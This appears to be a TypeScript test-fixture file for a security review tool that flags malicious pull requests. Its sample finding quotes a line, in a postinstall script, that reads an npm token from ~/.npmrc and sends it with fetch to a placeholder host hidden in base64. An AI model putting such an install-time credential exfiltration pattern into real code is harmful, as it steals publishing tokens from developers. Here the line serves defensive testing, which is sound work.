import type { Finding, Review } from "../../src/model/review.ts";
import type { RuleText } from "../../src/model/rule-text.ts";
import type { SandboxRun } from "../../src/model/sandbox-run.ts";
import type { FinishedReview, PullRequestReview } from "../../src/report/finished-review.ts";

export const HEAD = "0123456789abcdef0123456789abcdef01234567";
export const PAGE = "https://github.com/octo/app";

/** Where the page of the first rule is. */
export const RULE_PAGE = "https://gatehouse.example/rules/credentials/read-and-send";

export const RULES: ReadonlyMap<string, RuleText> = new Map([
  [
    "credentials/read-and-send",
    {
      title: "Sends a credential to the network",
      message: "{source} is read and sent to {destination}.",
      why: "Tokens in these files let the receiver publish and push as their owner.",
      normal: "A release script that logs in to its own registry.",
      do: "Ask what the upload is for; run nothing from this branch until it is answered.",
      references: ["https://attack.mitre.org/techniques/T1552/"],
      page: RULE_PAGE,
    },
  ],
  [
    "text/offscreen-code",
    {
      title: "Hides code behind blanks",
      why: "Nobody sees it in a diff.",
      normal: "Generated files.",
      do: "Scroll to the end of the line.",
      references: [],
    },
  ],
]);

export function finding(over: Partial<Finding> = {}): Finding {
  return {
    rule: "credentials/read-and-send",
    axis: "malice",
    severity: "critical",
    confidence: "high",
    change: "added",
    path: "scripts/postinstall.js",
    line: 3,
    endLine: 3,
    message: "~/.npmrc is read and sent to collect.example.invalid.",
    fingerprint: "a".repeat(32),
    triggers: ["install"],
    evidence: [
      {
        path: "scripts/postinstall.js",
        line: 3,
        kind: "flow",
        text: 'fetch(atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZA=="), { body: token });',
        decoded: ["https://collect.example.invalid"],
      },
    ],
    ...over,
  };
}

export function review(over: Partial<Review> = {}): Review {
  return {
    schema: "gatehouse.review/1",
    verdict: "malicious",
    complete: true,
    summary:
      "`scripts/postinstall.js` (new) runs on `npm install`, reads `~/.npmrc` and sends it to `collect.example.invalid`.",
    findings: [finding()],
    executions: [
      {
        path: "scripts/postinstall.js",
        trigger: "install",
        by: "package.json postinstall",
        secrets: ["NPM_TOKEN"],
        new: true,
      },
      { path: "old.js", trigger: "test", by: "npm test", secrets: [], new: false },
    ],
    capabilities: [],
    external: [
      {
        path: "package.json",
        kind: "npm",
        name: "left-pad",
        from: null,
        to: "1.0.0",
        triggers: ["install"],
        read: false,
      },
    ],
    unanalysed: [],
    stats: { files: 4, bytes: 1200, milliseconds: 81 },
    ...over,
  };
}

export function clean(over: Partial<Review> = {}): Review {
  return review({
    verdict: "clean",
    summary: "Nothing was found.",
    findings: [],
    executions: [],
    external: [],
    ...over,
  });
}

export function pullRequest(over: Partial<PullRequestReview> = {}): PullRequestReview {
  return {
    number: 7,
    baseBranch: "main",
    review: review(),
    mode: "advise",
    accepted: [],
    earlierMalicious: [],
    weakened: [],
    ...over,
  };
}

export function finished(over: Partial<FinishedReview> = {}): FinishedReview {
  return {
    repository: { owner: "octo", name: "app", url: PAGE },
    headSha: HEAD,
    pullRequests: [pullRequest()],
    rules: RULES,
    sandboxAllowed: true,
    helpUrl: "https://gatehouse.example/help",
    ...over,
  };
}

export function run(over: Partial<SandboxRun> = {}): SandboxRun {
  return {
    schema: "gatehouse.sandbox/1",
    headSha: HEAD,
    processes: null,
    profile: "default",
    image: "gatehouse/node@sha256:abc",
    runtime: "runc",
    outcome: "passed",
    reason: "The command ended with exit code 0 within all limits.",
    tests: { passed: 128, failed: 0, skipped: 2, source: "reported", failures: [] },
    behaviours: [],
    witnesses: ["recorder", "canaries"],
    warnings: [],
    resources: {
      wallMs: 4200,
      cpuMs: 3900,
      peakBytes: 268_435_456,
      readBytes: 1_048_576,
      writtenBytes: 2_097_152,
      peakPids: 11,
      series: [
        { atMs: 0, cpuMs: 0, bytes: 16_777_216, pids: 1 },
        { atMs: 1000, cpuMs: 900, bytes: 134_217_728, pids: 6 },
        { atMs: 2000, cpuMs: 1900, bytes: 268_435_456, pids: 11 },
      ],
    },
    log: { bytes: 42, truncated: false, tail: "\x1b[32mok\x1b[0m 1 adds\n" },
    ...over,
  };
}
